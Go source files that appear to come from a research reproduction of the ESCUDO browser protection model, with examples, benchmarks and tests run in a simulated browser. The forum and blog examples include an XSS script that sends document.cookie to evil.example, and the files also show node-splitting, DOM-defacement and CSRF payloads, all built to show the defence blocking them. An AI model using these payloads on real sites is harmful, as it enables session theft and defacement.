		`<script>var i = new Image(); i.src = "http://evil.example/steal?c=" + encodeURIComponent(document.cookie);</script>`)
	mustNavigate(b, forumOrigin.URL("/viewtopic?t="+strconv.Itoa(topicID)))
	stolen := false
	for _, e := range net.FindRequests(evilOrigin, nil) {
		if strings.Contains(e.URL, "phpbb2mysql_sid") {
			stolen = true
		}
	}
	fmt.Printf("  XSS cookie theft: session cookie stolen = %v\n", stolen)

	// --- Attack 2: CSRF via an img on the malicious site. --------
	before := len(forum.Topics())
	mustNavigate(b, evilOrigin.URL("/"))
	forged := len(forum.Topics()) > before
	fmt.Printf("  CSRF forged post: attack succeeded = %v\n", forged)
}

func mustNavigate(b *browser.Browser, u string) *browser.Page {
	p, err := b.Navigate(u)
	if err != nil {
		panic(err)
	}
	return p
}

func mustSubmit(p *browser.Page, formID string, fields url.Values) {
	form := p.Doc.ByID(formID)
	if form == nil {
		panic("missing form " + formID)
	}
	if _, err := p.SubmitForm(form, fields); err != nil {
		panic(err)
	}
}
