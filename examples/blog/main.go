// The blog example reproduces the paper's running example (Figures 2
// and 3): a blog page whose original post sits in ring 2 and whose
// user comments sit in ring 3, each scope sealed with a markup
// randomization nonce. A hostile comment carries (a) a script that
// tries to deface the post and steal cookies and (b) a node-splitting
// injection that tries to escape into ring 0. The example loads the
// page twice — in a legacy same-origin-policy browser and in the
// ESCUDO browser — and shows the attacks succeed in the first and die
// in the second.
//
// Run with:
//
//	go run ./examples/blog
package main

import (
	"fmt"
	"strings"

	escudo "repro"

	"repro/internal/html"
)

// blogPage is served with the page's ESCUDO configuration. The
// comment content is attacker-controlled and unsanitized: the blog's
// first-line defenses are assumed bypassed (§1), so only the
// protection model stands between the comment and the post.
const blogPage = `<html>
<head><title>My Blog</title></head>
<body>
<div ring=1 r=1 w=1 x=1 id=chrome nonce=5550001><h1 id=banner>My Blog</h1></div>
<div ring=2 r=2 w=0 x=2 id=post nonce=5550002>
  <p id=postbody>Today I learned about protection rings.</p>
</div nonce=5550002>
<div ring=3 r=2 w=2 x=2 id=comment1 nonce=5550003>
  Great post!
</div nonce=5550003>
<div ring=3 r=2 w=2 x=2 id=comment2 nonce=5550004>
  <script id=hostile>
    var stolen = document.cookie;
    var img = new Image();
    img.src = "http://evil.example/steal?c=" + encodeURIComponent(stolen);
    document.getElementById("postbody").innerText = "BUY CHEAP WATCHES";
  </script>
</div nonce=5550004>
<div ring=3 r=2 w=2 x=2 id=comment3 nonce=5550005>
  </div><div ring=0 id=forged><script id=splitter>document.getElementById("banner").innerText = "PWNED";</script></div>
</div nonce=5550005>
</body></html>`

func main() {
	site := escudo.MustParseOrigin("http://blog.example")
	evil := escudo.MustParseOrigin("http://evil.example")

	for _, mode := range []escudo.BrowserMode{escudo.ModeSOP, escudo.ModeEscudo} {
		fmt.Printf("=== Loading the blog in a %s browser ===\n\n", strings.ToUpper(mode.String()))

		net := escudo.NewNetwork()
		net.Register(site, escudo.HandlerFunc(func(req *escudo.Request) *escudo.Response {
			resp := escudo.HTMLResponse(blogPage)
			resp.Header.Set("X-Escudo-Maxring", "3")
			resp.Header.Add("Set-Cookie", "blogsession=s3cr3t; Path=/")
			resp.Header.Add("X-Escudo-Cookie", "blogsession; ring=1; r=1; w=1; x=1")
			return resp
		}))
		net.Register(evil, escudo.HandlerFunc(func(req *escudo.Request) *escudo.Response {
			return escudo.HTMLResponse("")
		}))

		b := escudo.NewBrowser(net, escudo.BrowserOptions{Mode: mode})
		// Establish the session first (the cookie the attack wants).
		if _, err := b.Navigate("http://blog.example/"); err != nil {
			panic(err)
		}
		p, err := b.Navigate("http://blog.example/")
		if err != nil {
			panic(err)
		}

		postText := html.InnerText(p.Doc.ByID("postbody"))
		bannerText := html.InnerText(p.Doc.ByID("banner"))
		fmt.Printf("  post body:  %q\n", strings.TrimSpace(postText))
		fmt.Printf("  banner:     %q\n", strings.TrimSpace(bannerText))

		stolen := "nothing"
		for _, e := range net.FindRequests(evil, nil) {
			if strings.Contains(e.URL, "steal") {
				if i := strings.Index(e.URL, "c="); i >= 0 {
					stolen = e.URL[i+2:]
				}
			}
		}
		fmt.Printf("  exfiltrated cookie: %s\n", stolen)
		if forged := p.Doc.ByID("forged"); forged != nil {
			fmt.Printf("  node-splitting div landed in ring %d\n", forged.Ring)
		}
		if len(p.ScriptErrors) > 0 {
			fmt.Println("  denials during page load:")
			for _, e := range p.ScriptErrors {
				fmt.Printf("    - %v\n", firstLine(e.Error()))
			}
		}
		fmt.Println()
	}

	fmt.Println("Under SOP every comment script speaks with the page's full")
	fmt.Println("authority; under ESCUDO the comment is a ring-3 principal that")
	fmt.Println("can neither read the ring-1 cookie, nor write the ring-2 post,")
	fmt.Println("nor escape its nonce-sealed scope (paper §4.3, §5).")
}

func firstLine(s string) string {
	if i := strings.IndexByte(s, '\n'); i >= 0 {
		return s[:i]
	}
	return s
}
