// The mashup example demonstrates the §7 extension: a portal embeds a
// third-party widget from a different origin, and instead of the
// all-or-nothing choices the same-origin policy offers (full iframe
// isolation or full script inclusion), the portal *delegates* a
// bounded ring to the widget's origin: the widget may act inside the
// portal page, but never more privileged than ring 2. The example
// shows the widget doing its legitimate job, then failing to touch
// the portal's ring-1 content and session cookie, while an undeclared
// origin gets nothing at all.
//
// Run with:
//
//	go run ./examples/mashup
package main

import (
	"fmt"

	"repro/internal/core"
	"repro/internal/dom"
	"repro/internal/html"
	"repro/internal/mashup"
	"repro/internal/origin"
)

const portalPage = `<html><body>
<div ring=1 r=1 w=1 x=1 id=chrome nonce=11><h1 id=title>My Portal</h1></div>
<div ring=2 r=2 w=2 x=2 id=weather-slot nonce=12>loading…</div nonce=12>
<div ring=3 r=3 w=3 x=3 id=footer nonce=13>footer</div nonce=13>
</body></html>`

func main() {
	portal := origin.MustParse("http://portal.example")
	widget := origin.MustParse("http://weather.example")
	rogue := origin.MustParse("http://rogue.example")

	doc := dom.NewDocument(portal, portalPage, html.Options{
		Escudo: true, MaxRing: 3, BaseRing: 3, BaseACL: core.ACL{},
	})

	// The portal's delegation: weather.example may act inside this
	// page, floored at ring 2 — exactly the slot it rented.
	policy := mashup.NewPolicy()
	policy.Delegate(mashup.Delegation{Host: portal, Guest: widget, Floor: 2})
	monitor := &mashup.Monitor{Policy: policy}

	fmt.Println("Delegations in force:")
	for _, d := range policy.All() {
		fmt.Printf("  %s\n", d)
	}
	fmt.Println()

	// The widget's principal (ring 0 at its own origin — its
	// trustworthiness at home is irrelevant here; the floor governs).
	widgetPrincipal := core.Principal(widget, 0, "weather widget")
	api := dom.NewAPI(doc, widgetPrincipal, monitor)

	// Legitimate: render the forecast into the rented slot.
	slot := doc.ByID("weather-slot")
	if err := api.SetInnerHTML(slot, "<p id=forecast>Sunny, 22°C</p>"); err != nil {
		fmt.Println("  unexpected:", err)
	}
	fmt.Printf("widget renders its slot:   %q\n", html.InnerText(doc.ByID("weather-slot")))

	// Overreach 1: rewrite the portal's ring-1 chrome.
	err := api.SetText(doc.ByID("title"), "WEATHER CORP PRESENTS")
	fmt.Printf("widget rewrites the title: %v\n", short(err))

	// Overreach 2: read the portal's session cookie object.
	sessionCookie := core.Object(portal, 1, core.UniformACL(1), "cookie portalsession")
	d := monitor.Authorize(widgetPrincipal, core.OpRead, sessionCookie)
	fmt.Printf("widget reads the session:  %v\n", verdict(d))

	// An origin with no delegation gets pure origin-rule denials.
	rogueAPI := dom.NewAPI(doc, core.Principal(rogue, 0, "rogue script"), monitor)
	_, err = rogueAPI.InnerText(doc.ByID("footer"))
	fmt.Printf("rogue origin reads footer: %v\n", short(err))

	fmt.Println()
	fmt.Println("The delegation grants the widget exactly ring-2 authority inside")
	fmt.Println("the portal — enough for its slot, nothing toward rings 0-1 — and")
	fmt.Println("origins without a delegation remain fully isolated (paper §7).")
}

func short(err error) string {
	if err == nil {
		return "ALLOWED"
	}
	if de, ok := err.(*dom.DeniedError); ok {
		return "DENIED (" + de.Decision.Rule.String() + ")"
	}
	return err.Error()
}

func verdict(d core.Decision) string {
	if d.Allowed {
		return "ALLOWED"
	}
	return "DENIED (" + d.Rule.String() + ")"
}
