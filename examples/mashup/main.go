// The mashup example demonstrates the §7 extension through the public
// facade: a portal embeds a third-party widget from a different
// origin, and instead of the all-or-nothing choices the same-origin
// policy offers (full iframe isolation or full script inclusion), the
// portal's unified policy document *delegates* a bounded ring to the
// widget's origin: the widget may act inside the portal page, but
// never more privileged than ring 2.
//
// Unlike the original version of this example — which exercised the
// delegation monitor against a hand-built DOM — the policy here is
// mounted into a REAL browsing session via escudo.New(WithPolicy):
// the page is fetched over the (in-memory) network, labeled by the
// parser, and every access below flows through the same monitor
// pipeline a production session uses. The document itself is shown
// serialized: it is exactly what an HTTP gateway serves per-origin at
// /.well-known/escudo-policy.
//
// Run with:
//
//	go run ./examples/mashup
package main

import (
	"fmt"

	escudo "repro"
)

const portalPage = `<html><body>
<div ring=1 r=1 w=1 x=1 id=chrome nonce=11><h1 id=title>My Portal</h1></div>
<div ring=2 r=2 w=2 x=2 id=weather-slot nonce=12>loading…</div nonce=12>
<div ring=3 r=3 w=3 x=3 id=footer nonce=13>footer</div nonce=13>
</body></html>`

func main() {
	portal := escudo.MustParseOrigin("http://portal.example")
	widget := escudo.MustParseOrigin("http://weather.example")
	rogue := escudo.MustParseOrigin("http://rogue.example")

	// The portal's unified policy document: ring-1 session cookie and
	// one delegation — weather.example may act inside portal pages,
	// floored at ring 2, exactly the slot it rented.
	pol := escudo.NewPolicy(portal, escudo.DefaultMaxRing)
	pol.Cookies["portalsession"] = escudo.UniformAssignment(1)
	pol.Delegate(widget, 2)

	doc, err := pol.MarshalIndent()
	if err != nil {
		panic(err)
	}
	fmt.Println("The portal's policy document (as served per-origin by a gateway):")
	fmt.Println(string(doc))
	fmt.Println()

	// Serve the portal and open a real session with the policy mounted.
	net := escudo.NewNetwork()
	net.Register(portal, escudo.HandlerFunc(func(req *escudo.Request) *escudo.Response {
		resp := escudo.HTMLResponse(portalPage)
		resp.Header.Set("X-Escudo-Maxring", "3")
		resp.Header.Add("Set-Cookie", "portalsession=s3cr3t; Path=/")
		resp.Header.Add("X-Escudo-Cookie", "portalsession; ring=1; r=1; w=1; x=1")
		return resp
	}))
	b, err := escudo.New(net, escudo.WithPolicy(pol))
	if err != nil {
		panic(err)
	}
	page, err := b.Navigate("http://portal.example/")
	if err != nil {
		panic(err)
	}

	// Legitimate: the widget renders the forecast into the rented slot.
	err = page.RunScriptAs(escudo.Principal(widget, 0, "weather widget"),
		`document.getElementById("weather-slot").innerHTML = "<p id=forecast>Sunny, 22°C</p>";`)
	fmt.Printf("widget renders its slot:   %v\n", verdict(err))

	// Overreach 1: rewrite the portal's ring-1 chrome.
	err = page.RunScriptAs(escudo.Principal(widget, 0, "weather widget"),
		`document.getElementById("title").innerHTML = "WEATHER CORP PRESENTS";`)
	fmt.Printf("widget rewrites the title: %v\n", verdict(err))

	// Overreach 2: use the portal's ring-1 session cookie.
	d := page.Monitor.Authorize(
		escudo.Principal(widget, 0, "weather widget"),
		escudo.OpUse,
		escudo.Object(portal, 1, escudo.UniformACL(1), "cookie portalsession"))
	fmt.Printf("widget uses the session:   %v\n", decision(d))

	// An origin with no delegation gets pure origin-rule denials.
	err = page.RunScriptAs(escudo.Principal(rogue, 0, "rogue script"),
		`var x = document.getElementById("footer").innerHTML;`)
	fmt.Printf("rogue origin reads footer: %v\n", verdict(err))

	fmt.Println()
	fmt.Printf("Audit: %d decisions recorded, %d denials.\n",
		b.Audit.Len(), len(b.Audit.Denials()))
	fmt.Println()
	fmt.Println("The delegation grants the widget exactly ring-2 authority inside")
	fmt.Println("the portal — enough for its slot, nothing toward rings 0-1 — and")
	fmt.Println("origins without a delegation remain fully isolated (paper §7).")
}

func verdict(err error) string {
	if err == nil {
		return "ALLOWED"
	}
	return "DENIED (" + err.Error() + ")"
}

func decision(d escudo.Decision) string {
	if d.Allowed {
		return "ALLOWED"
	}
	return "DENIED (" + d.Rule.String() + ")"
}
