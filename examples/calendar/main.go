// The calendar example drives the PHP-Calendar case study (paper §6.2,
// Table 5) end to end: a group shares a calendar; one member's hostile
// event tries to rewrite another member's event through the DOM — the
// isolation Table 5's ACL (events manipulable only by rings 0-2)
// exists to prevent. The example shows the month view rendering, the
// attack outcome under both browser modes, and the ESCUDO denial
// trace.
//
// Run with:
//
//	go run ./examples/calendar
package main

import (
	"fmt"
	"net/url"
	"strconv"
	"strings"

	escudo "repro"

	"repro/internal/apps/phpcal"
	"repro/internal/browser"
	"repro/internal/html"
	"repro/internal/nonce"
	"repro/internal/origin"
	"repro/internal/web"
)

func main() {
	for _, mode := range []escudo.BrowserMode{escudo.ModeSOP, escudo.ModeEscudo} {
		fmt.Printf("=== PHP-Calendar under a %s browser ===\n\n", strings.ToUpper(mode.String()))
		run(mode)
		fmt.Println()
	}
}

func run(mode escudo.BrowserMode) {
	calOrigin := origin.MustParse("http://calendar.example")
	cal := phpcal.New(phpcal.Config{
		Origin: calOrigin, Hardened: false, Escudo: true, Nonces: nonce.NewSeqSource(1),
	})
	cal.AddUser("alice", "alicepw")
	cal.AddUser("mallory", "mallorypw")

	net := web.NewNetwork()
	net.Register(calOrigin, cal)
	b := browser.New(net, browser.Options{Mode: mode})

	// Alice logs in and schedules the group meeting.
	p := mustNavigate(b, calOrigin.URL("/"))
	mustSubmit(p, "loginform", url.Values{"username": {"alice"}, "password": {"alicepw"}})
	p = mustNavigate(b, calOrigin.URL("/"))
	mustSubmit(p, "newevent", url.Values{"day": {"14"}, "text": {"Group meeting 10am"}})
	victimID := cal.Events()[0].ID

	// Mallory adds an event whose script rewrites Alice's.
	cal.SeedEvent("mallory", 14,
		`<script>document.getElementById("event-`+strconv.Itoa(victimID)+`").innerText = "CANCELLED (just kidding)";</script>`)

	p = mustNavigate(b, calOrigin.URL("/"))
	got := strings.TrimSpace(html.InnerText(p.Doc.ByID("event-" + strconv.Itoa(victimID))))
	fmt.Printf("  Alice's event on day 14 now reads: %q\n", got)
	if len(p.ScriptErrors) > 0 {
		fmt.Println("  denials during page load:")
		for _, e := range p.ScriptErrors {
			fmt.Printf("    - %s\n", firstLine(e.Error()))
		}
	}
	fmt.Println()
	fmt.Println("  month view as rendered:")
	for _, line := range strings.Split(p.RenderText(), "\n") {
		fmt.Println("    " + line)
	}
}

func mustNavigate(b *browser.Browser, u string) *browser.Page {
	p, err := b.Navigate(u)
	if err != nil {
		panic(err)
	}
	return p
}

func mustSubmit(p *browser.Page, formID string, fields url.Values) {
	form := p.Doc.ByID(formID)
	if form == nil {
		panic("missing form " + formID)
	}
	if _, err := p.SubmitForm(form, fields); err != nil {
		panic(err)
	}
}

func firstLine(s string) string {
	if i := strings.IndexByte(s, '\n'); i >= 0 {
		return s[:i]
	}
	return s
}
