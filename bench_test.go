package escudo

// Benchmark harness: one bench (or bench family) per table and figure
// of the paper's evaluation (§6), plus ablation microbenches for the
// design choices DESIGN.md calls out. Run with:
//
//	go test -bench=. -benchmem .
//
// Figure 4  → BenchmarkFigure4/* (parse+render per scenario, both
//             modes; the cmd/escudo-bench harness prints the paper's
//             table with overhead percentages)
// §6.4      → BenchmarkAttack* (attack corpus execution cost)
// §6.5 "UI events" → BenchmarkUIEventDispatch
// Tables 3/5 → BenchmarkForumPageLoad / BenchmarkCalendarPageLoad
//             (full pipeline on the case-study pages, both modes)
// Ablations → BenchmarkERMAuthorize vs BenchmarkSOPAuthorize (rule
//             evaluation cost), BenchmarkNonceScopes (markup
//             randomization), BenchmarkMediatedDOMWrite (per-access
//             mediation), BenchmarkCookieAttach (use-mediated
//             attachment).

import (
	"fmt"
	"net/url"
	"strconv"
	"testing"

	"repro/internal/apps/phpbb"
	"repro/internal/apps/phpcal"
	"repro/internal/attack"
	"repro/internal/browser"
	"repro/internal/core"
	"repro/internal/nonce"
	"repro/internal/origin"
	"repro/internal/scenarios"
	"repro/internal/web"
)

// BenchmarkFigure4 regenerates the Figure 4 measurement as testing.B
// benches: every scenario in both modes.
func BenchmarkFigure4(b *testing.B) {
	for _, sc := range scenarios.All() {
		sc := sc
		b.Run(sc.Name+"/baseline", func(b *testing.B) {
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				scenarios.ParseRender(sc.Markup, false)
			}
		})
		b.Run(sc.Name+"/escudo", func(b *testing.B) {
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				scenarios.ParseRender(sc.Markup, true)
			}
		})
	}
}

// BenchmarkERMAuthorize measures one ESCUDO rule evaluation — the
// paper's claim is that the model "primarily does bookkeeping" and
// adds no significant per-access cost.
func BenchmarkERMAuthorize(b *testing.B) {
	site := origin.MustParse("http://bench.example")
	erm := &core.ERM{}
	p := core.Principal(site, 2, "p")
	o := core.Object(site, 3, core.UniformACL(2), "o")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		erm.Authorize(p, core.OpWrite, o)
	}
}

// BenchmarkSOPAuthorize is the baseline monitor for comparison.
func BenchmarkSOPAuthorize(b *testing.B) {
	site := origin.MustParse("http://bench.example")
	sop := &core.SOPMonitor{}
	p := core.Principal(site, 2, "p")
	o := core.Object(site, 3, core.UniformACL(2), "o")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		sop.Authorize(p, core.OpWrite, o)
	}
}

// forumFixture builds a populated forum and a logged-in browser.
func forumFixture(b *testing.B, mode browser.Mode) (*web.Network, *browser.Browser, origin.Origin) {
	b.Helper()
	forumOrigin := origin.MustParse("http://forum.example")
	forum := phpbb.New(phpbb.Config{
		Origin: forumOrigin, Escudo: true, Nonces: nonce.NewSeqSource(1),
	})
	forum.AddUser("alice", "pw")
	for i := 0; i < 20; i++ {
		id := forum.SeedTopic("alice", fmt.Sprintf("topic %d", i), "body text for the topic")
		for j := 0; j < 3; j++ {
			forum.SeedReply(id, "alice", "a reply with some text in it")
		}
	}
	net := web.NewNetwork()
	net.Register(forumOrigin, forum)
	br := browser.New(net, browser.Options{Mode: mode})
	p, err := br.Navigate(forumOrigin.URL("/"))
	if err != nil {
		b.Fatal(err)
	}
	if _, err := p.SubmitForm(p.Doc.ByID("loginform"), url.Values{
		"username": {"alice"}, "password": {"pw"},
	}); err != nil {
		b.Fatal(err)
	}
	return net, br, forumOrigin
}

// BenchmarkForumPageLoad measures the full pipeline (fetch → config →
// labeled parse → subresources → layout → scripts) on the phpBB index
// with its Table 3 configuration, in both modes.
func BenchmarkForumPageLoad(b *testing.B) {
	for _, mode := range []browser.Mode{browser.ModeSOP, browser.ModeEscudo} {
		mode := mode
		b.Run(mode.String(), func(b *testing.B) {
			_, br, forumOrigin := forumFixture(b, mode)
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if _, err := br.Navigate(forumOrigin.URL("/")); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkCalendarPageLoad measures the PHP-Calendar month view with
// its Table 5 configuration.
func BenchmarkCalendarPageLoad(b *testing.B) {
	for _, mode := range []browser.Mode{browser.ModeSOP, browser.ModeEscudo} {
		mode := mode
		b.Run(mode.String(), func(b *testing.B) {
			calOrigin := origin.MustParse("http://calendar.example")
			cal := phpcal.New(phpcal.Config{Origin: calOrigin, Escudo: true, Nonces: nonce.NewSeqSource(1)})
			cal.AddUser("alice", "pw")
			for day := 1; day <= 28; day++ {
				cal.SeedEvent("alice", day, "an event with a description")
			}
			net := web.NewNetwork()
			net.Register(calOrigin, cal)
			br := browser.New(net, browser.Options{Mode: mode})
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if _, err := br.Navigate(calOrigin.URL("/")); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkUIEventDispatch measures event delivery + handler run —
// the activity §6.5 reports as having no noticeable overhead.
func BenchmarkUIEventDispatch(b *testing.B) {
	site := origin.MustParse("http://app.example")
	net := web.NewNetwork()
	net.Register(site, web.HandlerFunc(func(req *web.Request) *web.Response {
		resp := web.HTML(`<div ring=1 r=1 w=1 x=1 id=app>` +
			`<p id=target onclick="var x = 1 + 1;">click me</p></div>`)
		resp.Header.Set(core.HeaderMaxRing, "3")
		return resp
	}))
	for _, mode := range []browser.Mode{browser.ModeSOP, browser.ModeEscudo} {
		mode := mode
		b.Run(mode.String(), func(b *testing.B) {
			br := browser.New(net, browser.Options{Mode: mode})
			p, err := br.Navigate(site.URL("/"))
			if err != nil {
				b.Fatal(err)
			}
			target := p.Doc.ByID("target")
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if err := p.DispatchEvent(target, "click", nil); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkMediatedDOMWrite measures one script-driven DOM write
// through the full mediation stack.
func BenchmarkMediatedDOMWrite(b *testing.B) {
	site := origin.MustParse("http://app.example")
	net := web.NewNetwork()
	net.Register(site, web.HandlerFunc(func(req *web.Request) *web.Response {
		resp := web.HTML(`<div ring=1 r=1 w=1 x=1 id=app><p id=msg>x</p></div>`)
		resp.Header.Set(core.HeaderMaxRing, "3")
		return resp
	}))
	br := browser.New(net, browser.Options{Mode: browser.ModeEscudo})
	p, err := br.Navigate(site.URL("/"))
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := p.RunScriptRing(1, "bench",
			`document.getElementById("msg").innerText = "updated";`); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkCookieAttach measures use-mediated cookie attachment: a
// same-origin subresource fetch that carries the ring-1 session
// cookie.
func BenchmarkCookieAttach(b *testing.B) {
	_, br, forumOrigin := forumFixture(b, browser.ModeEscudo)
	p, err := br.Navigate(forumOrigin.URL("/"))
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := p.RunScriptRing(1, "bench", `var c = document.cookie;`); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkNonceScopes isolates the markup-randomization cost: parsing
// a page of nonce-sealed AC scopes versus the same page without
// ESCUDO processing.
func BenchmarkNonceScopes(b *testing.B) {
	var markup string
	for i := 0; i < 100; i++ {
		n := strconv.Itoa(1000 + i)
		markup += `<div ring=3 r=2 w=2 x=2 nonce=` + n + `>content ` + n + `</div nonce=` + n + `>`
	}
	b.Run("baseline", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			scenarios.ParseRender(markup, false)
		}
	})
	b.Run("escudo", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			scenarios.ParseRender(markup, true)
		}
	})
}

// BenchmarkMashupAuthorize measures the delegation-aware monitor vs
// the plain ERM (BenchmarkERMAuthorize) — the §7 extension's cost.
func BenchmarkMashupAuthorize(b *testing.B) {
	host := origin.MustParse("http://portal.example")
	guest := origin.MustParse("http://widget.example")
	pol := NewDelegationPolicy()
	pol.Delegate(Delegation{Host: host, Guest: guest, Floor: 2})
	m := &MashupMonitor{Policy: pol}
	p := core.Principal(guest, 0, "widget")
	o := core.Object(host, 2, core.UniformACL(2), "slot")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		m.Authorize(p, core.OpWrite, o)
	}
}

// BenchmarkAttackXSS measures one full XSS attack trial (environment
// setup + execution + verdict) under ESCUDO — the §6.4 harness cost.
func BenchmarkAttackXSS(b *testing.B) {
	var theft attack.Attack
	for _, a := range attack.Corpus() {
		if a.Name == "phpbb-xss-cookie-theft" {
			theft = a
		}
	}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		r := attack.RunOne(theft, browser.ModeEscudo)
		if r.Err != nil || r.Succeeded {
			b.Fatalf("unexpected result %+v", r)
		}
	}
}

// BenchmarkAttackCSRF measures one full CSRF attack trial under
// ESCUDO.
func BenchmarkAttackCSRF(b *testing.B) {
	var img attack.Attack
	for _, a := range attack.Corpus() {
		if a.Name == "phpbb-csrf-img" {
			img = a
		}
	}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		r := attack.RunOne(img, browser.ModeEscudo)
		if r.Err != nil || r.Succeeded {
			b.Fatalf("unexpected result %+v", r)
		}
	}
}
