package escudo

import (
	"strings"
	"testing"
)

// TestFacadeERM exercises the three-rule policy through the public
// API.
func TestFacadeERM(t *testing.T) {
	site := MustParseOrigin("http://blog.example")
	erm := &ERM{}

	comment := Principal(site, 3, "comment-script")
	post := Object(site, 2, ACL{Read: 1, Write: 0, Use: 0}, "blog-post")

	d := erm.Authorize(comment, OpWrite, post)
	if d.Allowed {
		t.Error("ring-3 comment must not write the ring-2 post")
	}
	app := Principal(site, RingKernel, "app")
	if d := erm.Authorize(app, OpWrite, post); !d.Allowed {
		t.Errorf("ring-0 app write denied: %v", d)
	}
}

// TestFacadeBrowserEndToEnd drives the public browser API against a
// public network.
func TestFacadeBrowserEndToEnd(t *testing.T) {
	site := MustParseOrigin("http://app.example")
	net := NewNetwork()
	net.Register(site, HandlerFunc(func(req *Request) *Response {
		resp := HTMLResponse(`<div ring=1 r=1 w=1 x=1 id=app>hello facade</div>`)
		resp.Header.Set("X-Escudo-Maxring", "3")
		return resp
	}))
	b := NewBrowser(net, BrowserOptions{Mode: ModeEscudo})
	p, err := b.Navigate("http://app.example/")
	if err != nil {
		t.Fatal(err)
	}
	if p.Doc.ByID("app").Ring != 1 {
		t.Error("labeling through facade failed")
	}
	if !strings.Contains(p.RenderText(), "hello facade") {
		t.Error("render through facade failed")
	}
}

// TestFacadeAttackCorpus sanity-checks the re-exported harness.
func TestFacadeAttackCorpus(t *testing.T) {
	if got := len(AttackCorpus()); got != 18 {
		t.Errorf("corpus = %d, want 18", got)
	}
}

// TestFacadeFigure4 sanity-checks the re-exported scenarios.
func TestFacadeFigure4(t *testing.T) {
	if got := len(Figure4Scenarios()); got != 8 {
		t.Errorf("scenarios = %d, want 8", got)
	}
	rows := MeasureFigure4(2, 1)
	if len(rows) != 8 {
		t.Fatalf("rows = %d", len(rows))
	}
	tbl := Figure4Table(rows)
	if !strings.Contains(tbl, "S1") {
		t.Errorf("table = %q", tbl)
	}
	_ = Figure4AverageOverhead(rows)
}

// TestFacadeMashup drives the §7 extension through the public API.
func TestFacadeMashup(t *testing.T) {
	host := MustParseOrigin("http://portal.example")
	guest := MustParseOrigin("http://widget.example")
	pol := NewDelegationPolicy()
	pol.Delegate(Delegation{Host: host, Guest: guest, Floor: 2})
	m := &MashupMonitor{Policy: pol}

	slot := Object(host, 2, UniformACL(2), "slot")
	if d := m.Authorize(Principal(guest, 0, "w"), OpWrite, slot); !d.Allowed {
		t.Errorf("delegated write denied: %v", d)
	}
	app := Object(host, 1, UniformACL(1), "app")
	if d := m.Authorize(Principal(guest, 0, "w"), OpWrite, app); d.Allowed {
		t.Error("delegation must not reach ring 1")
	}
}

// TestFacadeConfigCompiler drives the §6.2 derivation through the
// public API.
func TestFacadeConfigCompiler(t *testing.T) {
	c := NewConfigCompiler()
	out, err := c.Compile([]AnnotatedFragment{
		{Kind: FragmentMarkup, ID: "app", Level: LevelApplication, Content: "x"},
		{Kind: FragmentCookie, ID: "sid", Level: LevelApplication},
	})
	if err != nil {
		t.Fatal(err)
	}
	if out.Config.Cookies["sid"].Ring != 1 {
		t.Errorf("derived cookie ring = %d", out.Config.Cookies["sid"].Ring)
	}
	if !strings.Contains(out.Body, "ring=1") {
		t.Errorf("body = %q", out.Body)
	}
	if LevelTrusted != 0 || LevelUntrusted != 3 {
		t.Error("level constants")
	}
}

// TestFacadeConstants pins the re-exported constants.
func TestFacadeConstants(t *testing.T) {
	if RingKernel != 0 || DefaultMaxRing != 3 {
		t.Error("ring constants")
	}
	if UniformACL(2) != (ACL{Read: 2, Write: 2, Use: 2}) {
		t.Error("UniformACL")
	}
	if !PermissiveACL(3).Permits(3, OpUse) {
		t.Error("PermissiveACL")
	}
}
