package escudo

import (
	"reflect"
	"strings"
	"testing"

	"repro/internal/core"
)

// TestFacadeERM exercises the three-rule policy through the public
// API.
func TestFacadeERM(t *testing.T) {
	site := MustParseOrigin("http://blog.example")
	erm := &ERM{}

	comment := Principal(site, 3, "comment-script")
	post := Object(site, 2, ACL{Read: 1, Write: 0, Use: 0}, "blog-post")

	d := erm.Authorize(comment, OpWrite, post)
	if d.Allowed {
		t.Error("ring-3 comment must not write the ring-2 post")
	}
	app := Principal(site, RingKernel, "app")
	if d := erm.Authorize(app, OpWrite, post); !d.Allowed {
		t.Errorf("ring-0 app write denied: %v", d)
	}
}

// TestFacadeBrowserEndToEnd drives the public browser API against a
// public network.
func TestFacadeBrowserEndToEnd(t *testing.T) {
	site := MustParseOrigin("http://app.example")
	net := NewNetwork()
	net.Register(site, HandlerFunc(func(req *Request) *Response {
		resp := HTMLResponse(`<div ring=1 r=1 w=1 x=1 id=app>hello facade</div>`)
		resp.Header.Set("X-Escudo-Maxring", "3")
		return resp
	}))
	b := NewBrowser(net, BrowserOptions{Mode: ModeEscudo})
	p, err := b.Navigate("http://app.example/")
	if err != nil {
		t.Fatal(err)
	}
	if p.Doc.ByID("app").Ring != 1 {
		t.Error("labeling through facade failed")
	}
	if !strings.Contains(p.RenderText(), "hello facade") {
		t.Error("render through facade failed")
	}
}

// TestFacadeAttackCorpus sanity-checks the re-exported harness.
func TestFacadeAttackCorpus(t *testing.T) {
	if got := len(AttackCorpus()); got != 18 {
		t.Errorf("corpus = %d, want 18", got)
	}
}

// TestFacadeFigure4 sanity-checks the re-exported scenarios.
func TestFacadeFigure4(t *testing.T) {
	if got := len(Figure4Scenarios()); got != 8 {
		t.Errorf("scenarios = %d, want 8", got)
	}
	rows := MeasureFigure4(2, 1)
	if len(rows) != 8 {
		t.Fatalf("rows = %d", len(rows))
	}
	tbl := Figure4Table(rows)
